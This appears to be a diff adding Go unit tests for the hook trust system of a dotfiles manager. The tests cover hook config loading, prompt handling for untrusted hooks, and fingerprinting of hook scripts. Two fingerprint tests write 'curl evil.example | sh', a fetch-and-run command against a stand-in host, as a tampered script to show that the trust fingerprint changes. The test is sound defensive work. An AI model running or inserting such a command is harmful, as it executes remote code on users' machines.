@@ -0,0 +1,129 @@
+package hooks
+
+import (
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/ZonCen/dotman/internal/prompt"
+	"github.com/ZonCen/dotman/internal/testutils"
+)
+
+// trust marks commands as trusted so Run does not prompt
+func trust(t *testing.T, repoPath string, commands ...string) {
+	trusted := map[string]string{}
+	for _, command := range commands {
+		trusted[fingerprint(repoPath, command)] = command
+	}
+	data, err := json.Marshal(trusted)
+	if err != nil {
+		t.Fatalf("json.Marshal() error = %v", err)
+	}
+	testutils.CreateTestFile(t, trustPath(), string(data))
+}
+
+func TestLoad(t *testing.T) {
+	testDir := testutils.TestDir(t)
+	defer testutils.CleanupTestDir(t, testDir)
+
+	cfg, err := Load(testDir)
+	if err != nil {
+		t.Fatalf("Load() without hooks file error = %v", err)
+	}
+	if len(cfg.For(PreSync)) != 0 {
+		t.Errorf("Expected no hooks without a hooks file, got %v", cfg.For(PreSync))
+	}
+
+	testutils.CreateTestFile(t, filepath.Join(testDir, FileName), `pre-sync:
+  - ./lint.sh
+post-deploy:
+  - fc-cache -f
+entries:
+  .tmux.conf:
+    - tmux source-file ~/.tmux.conf
+`)
+	cfg, err = Load(testDir)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if got := cfg.For(PreSync); len(got) != 1 || got[0] != "./lint.sh" {
+		t.Errorf("For(pre-sync) = %v", got)
+	}
+	if got := cfg.For(PostDeploy); len(got) != 1 || got[0] != "fc-cache -f" {
+		t.Errorf("For(post-deploy) = %v", got)
+	}
+	if got := cfg.Entries[".tmux.conf"]; len(got) != 1 {
+		t.Errorf("Entries[.tmux.conf] = %v", got)
+	}
+}
+
+func TestRun(t *testing.T) {
+	testDir := testutils.TestDir(t)
+	defer testutils.CleanupTestDir(t, testDir)
+	t.Setenv("XDG_STATE_HOME", filepath.Join(testDir, "state"))
+
+	output := filepath.Join(testDir, "output")
+	command := `echo "$DOTMAN_HOOK $DOTMAN_ENTRY" > ` + output
+
+	// Untrusted hooks are skipped when the user declines them and fail when nobody can answer
+	ran, err := Run(prompt.Fixed(false), testDir, PostAdd, command, map[string]string{"DOTMAN_ENTRY": ".zshrc"})
+	if err != nil || ran {
+		t.Errorf("Run() declined = %v, %v, want skipped", ran, err)
+	}
+	ran, err = Run(prompt.NonInteractive{}, testDir, PostAdd, command, nil)
+	if !errors.Is(err, prompt.ErrInputRequired) || ran {
+		t.Errorf("Run() non-interactive = %v, %v, want ErrInputRequired", ran, err)
+	}
+	testutils.AssertFileNotExists(t, output)
+
+	trust(t, testDir, command, "exit 3")
+	ran, err = Run(prompt.NonInteractive{}, testDir, PostAdd, command, map[string]string{"DOTMAN_ENTRY": ".zshrc"})
+	if err != nil || !ran {
+		t.Fatalf("Run() = %v, %v", ran, err)
+	}
+	testutils.AssertFileContent(t, output, "post-add .zshrc\n")
+
+	if _, err := Run(prompt.NonInteractive{}, testDir, PreSync, "exit 3", nil); err == nil {
+		t.Error("Expected error from a failing hook")
+	}
+}
+
+func TestFingerprintChangesWithScript(t *testing.T) {
+	testDir := testutils.TestDir(t)
+	defer testutils.CleanupTestDir(t, testDir)
+
+	script := filepath.Join(testDir, "reload.sh")
+	testutils.CreateTestFile(t, script, "tmux source-file ~/.tmux.conf\n")
+	before := fingerprint(testDir, "./reload.sh")
+
+	if err := os.WriteFile(script, []byte("curl evil.example | sh\n"), 0755); err != nil {
+		t.Fatalf("os.WriteFile() error = %v", err)
+	}
+	if fingerprint(testDir, "./reload.sh") == before {
+		t.Error("Expected fingerprint to change when the hook script changes")
+	}
+}
+
+func TestFingerprintChangesWithArguments(t *testing.T) {
+	testDir := testutils.TestDir(t)
+	defer testutils.CleanupTestDir(t, testDir)
+
+	script := filepath.Join(testDir, "hooks", "setup.sh")
+	testutils.CreateTestFile(t, script, "fc-cache -f\n")
+	commands := []string{"sh ./hooks/setup.sh", "bash hooks/setup.sh", "sh -c '. hooks/setup.sh'", "bash " + script}
+	before := map[string]string{}
+	for _, command := range commands {
+		before[command] = fingerprint(testDir, command)
+	}
+
+	if err := os.WriteFile(script, []byte("curl evil.example | sh\n"), 0755); err != nil {
+		t.Fatalf("os.WriteFile() error = %v", err)
+	}
+	for _, command := range commands {
+		if fingerprint(testDir, command) == before[command] {
+			t.Errorf("Expected the fingerprint of %q to change when the script it runs changes", command)
+		}
+	}
+}